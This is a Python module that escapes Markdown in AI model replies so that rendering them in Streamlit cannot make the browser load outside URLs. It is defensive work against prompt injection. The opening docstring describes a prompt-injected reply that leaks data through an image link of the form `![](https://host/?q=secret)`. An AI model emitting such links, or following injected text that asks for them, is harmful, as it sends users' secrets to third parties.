"""A model's reply as Markdown that loads nothing from outside the workbench.

Replies keep their Markdown (code blocks, lists, tables, emphasis, links), but a reply is text a
model wrote, and a prompt-injected one can carry ``![](https://host/?q=secret)``: shown as
Markdown, the browser would fetch that URL by itself. :func:`neutralise` returns the reply with a
backslash put before every character that could make the browser load something, so it shows as
the character:

- ``![`` (an image, inline or by reference) keeps its text: ``!\\[alt](url)``;
- ``<`` (raw HTML, autolinks), ``$`` (math), ``:name`` (Streamlit's directives);
- link reference and footnote definitions at the start of a paragraph (nothing can then be
  referenced, including an image defined elsewhere);
- backticks that do not delimit a code span of this module's reading, and ``~~~`` that would
  open a fence it does not see, so the renderer cannot find code (where the escapes are not
  made) anywhere this module did not.

Code (fenced blocks and code spans) keeps every character: there a backslash would show.

The hard part is agreeing with the renderer (remark: CommonMark and GitHub's extensions) on what
is code, since an image written where this module sees code but the renderer sees text would
load. So the reply's blocks are read as CommonMark reads them (containers, lazy lines, fences,
tables); where a construct that consumes backticks before code spans are paired could start
(a link's ``(destination "title")``, a bare ``https://…`` link) no code span may open; whatever
this module does not read (indented code, math, HTML blocks) is escaped as plain text; and the
result is read again until a pass changes nothing, so what is checked is what is shown. Work is
bounded: a reply that would cost too much is escaped everywhere, code included (safe, if ugly).
"""

from __future__ import annotations

import re
import string
import textwrap
from bisect import bisect_left
from collections.abc import Iterable
from dataclasses import dataclass

from workbench.chat.markdown_blocks import Blocks as _Blocks
from workbench.chat.markdown_blocks import Budget as _Budget
from workbench.chat.markdown_blocks import TooMuchWork as _TooMuchWork
from workbench.chat.markdown_table_rows import escaped_at as _escaped_at

# What CommonMark lets a backslash escape (and so shows as the character itself).
PUNCTUATION = frozenset(string.punctuation)
# Passes until the text stops changing; real replies settle in two.
MAX_PASSES = 8

# A table's delimiter row, loosely (with any container prefix), holds only these.
_TABLE_ISH = frozenset(" \t>|:-")
# A bare link GitHub's extension makes from text: it may swallow backticks up to a space.
_BARE_LINK = re.compile(r"(?i)(?:https?://|www\.)")
_SPACE = frozenset(" \t\n\r\f\v")
_WHITESPACE = re.compile(r"[ \t\n\r\f\v]")
# Longer replies than any model writes are escaped everywhere without being read.
_LONGEST_READ = 250_000


def neutralise(reply: str) -> str:
    """``reply`` as Markdown to render with ``st.markdown``: the same text and formatting, but
    nothing in it can make the browser request a URL (see the module's docstring)."""
    text = _as_streamlit_sends(reply)
    if len(text) > _LONGEST_READ:
        return _escape_everything(text)
    budget = _Budget(200_000 + 32 * len(text))
    try:
        for _ in range(MAX_PASSES):
            settled = _one_pass(text, budget)
            if settled == text:
                return settled
            text = settled
    except _TooMuchWork:
        pass
    return _escape_everything(text)


def _as_streamlit_sends(text: str) -> str:
    """What ``st.markdown`` sends the browser for ``text`` (``clean_text``: dedented, stripped),
    with one kind of line ending: this module reads exactly what the renderer reads."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "\ufffd")
    return textwrap.dedent(text).strip()


# --- escaping ------------------------------------------------------------------------------------


def _escape_everything(text: str) -> str:
    """No code anywhere: every character that could start something is escaped, in every line
    (the fallback; code blocks then show the backslashes)."""
    lines = text.split("\n")
    out: list[str] = []
    for line in lines:
        inserts = _plain_inserts(line, 0, len(line))
        start = _content_start(line)
        if start < len(line) and line[start] == "[" and not _escaped_at(line, start):
            inserts.add(start)
        out.append(_with_backslashes(line, inserts))
    return "\n".join(out)


def _content_start(line: str) -> int:
    """Where a line's text starts after any quote and list markers (loosely)."""
    found = re.match(r"(?:[ \t>]|[-+*](?=[ \t])|\d{1,9}[.)](?=[ \t]))*", line)
    return found.end() if found else 0


def _plain_inserts(text: str, start: int, end: int) -> set[int]:
    """Where backslashes go in ``text[start:end]`` read as text with no code at all."""
    return _inline_inserts(text, start, end, None, _Budget(len(text) + 1))


def _run(text: str, start: int, char: str, end: int | None = None) -> int:
    stop = len(text) if end is None else end
    i = start
    while i < stop and text[i] == char:
        i += 1
    return i - start


def _with_backslashes(line: str, inserts: Iterable[int]) -> str:
    points = sorted(set(inserts))
    if not points:
        return line
    parts: list[str] = []
    last = 0
    for point in points:
        parts.append(line[last:point])
        parts.append("\\")
        last = point
    parts.append(line[last:])
    return "".join(parts)


# --- one pass: read the blocks, then the text in them --------------------------------------------


def _one_pass(text: str, budget: _Budget) -> str:
    lines = text.split("\n")
    budget.spend(len(text))
    layout = _Blocks(lines, budget).read()
    table_ish = _table_ish_lines(lines)
    inserts: dict[int, set[int]] = {n: set() for n in range(len(lines))}
    for number, role in enumerate(layout.roles):
        if role == "plain":
            inserts[number] |= _plain_inserts(lines[number], 0, len(lines[number]))
    for line_number, column in layout.kills:
        inserts[line_number].add(column)
    for region in layout.regions:
        if region.kind == "row":
            _escape_row(lines, region.segments[0], inserts, budget)
        else:
            _escape_text(lines, region.segments, inserts, table_ish, budget)
    return "\n".join(_with_backslashes(line, inserts[n]) for n, line in enumerate(lines))


def _table_ish_lines(lines: list[str]) -> set[int]:
    """Lines that could be a table's rows whatever the blocks around them are: from the line
    before a delimiter-like line to the next blank line."""
    found: set[int] = set()
    start = 0
    while start < len(lines):
        end = start
        while end < len(lines) and lines[end].strip():
            end += 1
        for n in range(start, end):
            line = lines[n]
            if "-" in line and ("|" in line or ":" in line) and set(line) <= _TABLE_ISH:
                found.update(range(max(start, n - 1), end))
                break
        start = end + 1
    return found


def _escape_text(
    lines: list[str],
    segments: list[tuple[int, int]],
    inserts: dict[int, set[int]],
    table_ish: set[int],
    budget: _Budget,
) -> None:
    text, where = _joined(lines, segments)
    pipes = any(n in table_ish for n, _ in segments)
    found = _inline_inserts(text, 0, len(text), pipes, budget)
    first = _skip_spaces(text, 0)
    if first < len(text) and text[first] == "[" and _looks_like_definition(text, first):
        found.add(first)
    for offset in where.offsets:
        found |= _line_start_inserts(text, offset)
    for index in found:
        number, column = where(index)
        inserts[number].add(column)


def _escape_row(
    lines: list[str], segment: tuple[int, int], inserts: dict[int, set[int]], budget: _Budget
) -> None:
    """A table row: each cell is parsed on its own (GitHub splits the row at unescaped pipes
    first, even inside backticks)."""
    number, start = segment
    line = lines[number]
    inserts[number] |= _line_start_inserts(line, start)
    cell = start
    i = start
    while i <= len(line):
        if i < len(line) and line[i] == "\\" and i + 1 < len(line) and line[i + 1] in "\\|":
            i += 2
            continue
        if i == len(line) or line[i] == "|":
            inserts[number] |= _inline_inserts(line, cell, i, False, budget)
            cell = i + 1
        i += 1


def _joined(lines: list[str], segments: list[tuple[int, int]]) -> tuple[str, _Locate]:
    parts = [lines[n][column:] for n, column in segments]
    text = "\n".join(parts)
    offsets: list[int] = []
    position = 0
    for part in parts:
        offsets.append(position)
        position += len(part) + 1
    return text, _Locate(offsets, segments)


@dataclass(frozen=True)
class _Locate:
    """Maps an index in a region's joined text back to (line number, column)."""

    offsets: list[int]
    segments: list[tuple[int, int]]

    def __call__(self, index: int) -> tuple[int, int]:
        k = bisect_left(self.offsets, index + 1) - 1
        number, column = self.segments[k]
        return number, column + index - self.offsets[k]


def _skip_spaces(text: str, i: int) -> int:
    while i < len(text) and text[i] in " \t":
        i += 1
    return i


def _line_start_inserts(text: str, offset: int) -> set[int]:
    """Blocks this module does not read can interrupt a paragraph, even one this module reads as
    inside a code span: HTML, math (``$$``), directives (``::``) and footnote definitions
    (``[^x]:``). Their first character is escaped wherever a line of text starts."""
    at = _skip_spaces(text, offset)
    following = text[at + 1 : at + 2]
    if text.startswith("<", at) or text.startswith("$$", at) or text.startswith("[^", at):
        return {at}
    if text.startswith(":", at) and (following == ":" or _ascii_letter(following)):
        return {at}
    return set()


def _looks_like_definition(text: str, start: int) -> bool:
    """``[label]:`` at a paragraph's start (a link reference or footnote definition), loosely:
    the first unescaped ``]`` is followed by ``:``."""
    i = start + 1
    while i < len(text):
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "[":
            return False
        if c == "]":
            return text.startswith(":", i + 1)
        i += 1
    return False


# --- inline text ---------------------------------------------------------------------------------


def _inline_inserts(
    text: str, start: int, end: int, pipes: bool | None, budget: _Budget
) -> set[int]:
    """Where backslashes go in ``text[start:end]`` (one inline run). Code spans are paired as
    CommonMark pairs them, except that no code span may open where a link destination or a bare
    link could have started before it (those take the backticks first): such backticks are
    escaped. With ``pipes``, pipes inside code spans are escaped too (GitHub would split a table
    row there; inside a table cell it shows ``\\|`` as ``|``). With ``pipes`` None there is no
    code at all: every backtick is escaped."""
    budget.spend(end - start)
    closers = _Closers(text, start, end)
    inserts: set[int] = set()
    taken_until = start  # end of the furthest link destination or bare link seen so far
    bare_link_until = start
    i = start
    while i < end:
        c = text[i]
        if c == "\\" and i + 1 < end and text[i + 1] in PUNCTUATION:
            i += 2
            continue
        if c == "`":
            run = _run(text, i, "`", end)
            close = None if pipes is None or i < taken_until else closers.after(i + run, run)
            if close is None:
                inserts.update(range(i, i + run))
                i += run
                continue
            if pipes:
                inserts.update(_pipes(text, i + run, close))
            i = close + run
            continue
        if pipes is None:
            pass  # no code spans to guard
        elif c == "]" and i + 1 < end and text[i + 1] == "(":
            resource_end = _resource_end(text, i + 1, end, budget)
            if resource_end is not None:
                taken_until = max(taken_until, resource_end)
        elif c in "hHwW" and i >= bare_link_until and _BARE_LINK.match(text, i):
            # (One starting inside another ends at the same space: no need to look again.)
            space = _WHITESPACE.search(text, i, end)
            bare_link_until = end if space is None else space.start()
            budget.spend(bare_link_until - i)
            taken_until = max(taken_until, bare_link_until)
        if c in "<$":
            inserts.add(i)
        elif c == "!" and i + 1 < end and text[i + 1] == "[":
            inserts.add(i + 1)
        elif c == ":" and i + 1 < end and (text[i + 1] == ":" or _ascii_letter(text[i + 1])):
            inserts.add(i)
        elif c == "~" and (i == start or text[i - 1] != "~"):
            run = _run(text, i, "~", end)
            if run >= 3:
                inserts.add(i)
            i += run
            continue
        i += 1
    return inserts


def _ascii_letter(c: str) -> bool:
    return c.isascii() and c.isalpha()


def _pipes(text: str, start: int, end: int) -> set[int]:
    return {i for i in range(start, end) if text[i] == "|" and not _escaped_at(text, i)}


class _Closers:
    """Backtick runs in a stretch of text, to find the run of exactly ``n`` that closes a code
    span (inside code a backslash escapes nothing, so every run counts)."""

    def __init__(self, text: str, start: int, end: int) -> None:
        self._by_length: dict[int, list[int]] = {}
        i = start
        while i < end:
            if text[i] == "`":
                run = _run(text, i, "`", end)
                self._by_length.setdefault(run, []).append(i)
                i += run
            else:
                i += 1

    def after(self, position: int, length: int) -> int | None:
        starts = self._by_length.get(length, [])
        k = bisect_left(starts, position)
        return starts[k] if k < len(starts) else None


def _resource_end(text: str, open_paren: int, end: int, budget: _Budget) -> int | None:
    """Where a link's ``(destination "title")`` starting at ``open_paren`` would end, or None
    if it is not one. Looser than CommonMark where looser is safer (any whitespace, any number
    of line endings, no limit on nested parentheses): a longer reach only escapes more."""
    i = _skip_space(text, open_paren + 1, end)
    if i < end and text[i] == ")":
        return i + 1
    destination_start = i
    if i < end and text[i] == "<":
        i += 1
        while i < end and text[i] not in "<>\n":
            i += 2 if text[i] == "\\" else 1
        if i >= end or text[i] != ">":
            return None
        i += 1
    else:
        depth = 0
        while i < end:
            c = text[i]
            if c == "\\" and i + 1 < end and text[i + 1] in PUNCTUATION:
                i += 2
                continue
            if c in _SPACE or ord(c) < 0x20 or ord(c) == 0x7F:
                break
            if c == "(":
                depth += 1
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            i += 1
        if depth:
            return None
    budget.spend(i - open_paren)
    had_destination = i > destination_start
    after = _skip_space(text, i, end)
    if after < end and text[after] == ")":
        return after + 1
    if had_destination and after == i:
        return None  # a title must be apart from the destination
    if after >= end or text[after] not in "\"'(":
        return None
    closing = ")" if text[after] == "(" else text[after]
    j = after + 1
    while j < end:
        c = text[j]
        if c == "\\" and j + 1 < end:
            j += 2
            continue
        if c == closing:
            break
        if closing == ")" and c == "(":
            return None
        j += 1
    budget.spend(j - after)
    if j >= end:
        return None
    j = _skip_space(text, j + 1, end)
    return j + 1 if j < end and text[j] == ")" else None


def _skip_space(text: str, i: int, end: int) -> int:
    while i < end and text[i] in _SPACE:
        i += 1
    return i
